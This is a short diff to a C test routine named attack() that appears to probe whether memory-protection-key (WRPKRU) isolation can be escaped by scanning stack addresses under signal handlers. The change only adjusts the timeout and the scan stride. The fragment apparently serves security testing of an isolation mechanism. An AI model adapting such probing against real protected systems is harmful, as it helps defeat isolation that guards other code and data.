@@ -53,10 +53,10 @@ static int attack(void)
 		sigaction(signals[i], &action, 0);
 	/* Plain, and with alignment checks, which fault where the stack pointer is odd. */
 	static const uintptr_t flags[] = {0x202, 0x40202};
-	alarm(60);
+	alarm(patience(60));
 	for (volatile int n = 0; place("ATTACK_WRPKRU", n); n++)
 		for (volatile int slot = 0; slot < 8; slot++)
-			for (volatile uintptr_t at = TOP; at > TOP - 16384; at -= 8)
+			for (volatile uintptr_t at = TOP; at > TOP - 16384; at -= 8 * (16384 / 8 / part(16384 / 8)))
 				for (volatile int odd = 0; odd < (at % 64 ? 1 : 2); odd++) {
 					/* Kept out of registers, as the jump changes them all. */
 					if (sigsetjmp(landing, 1)) {
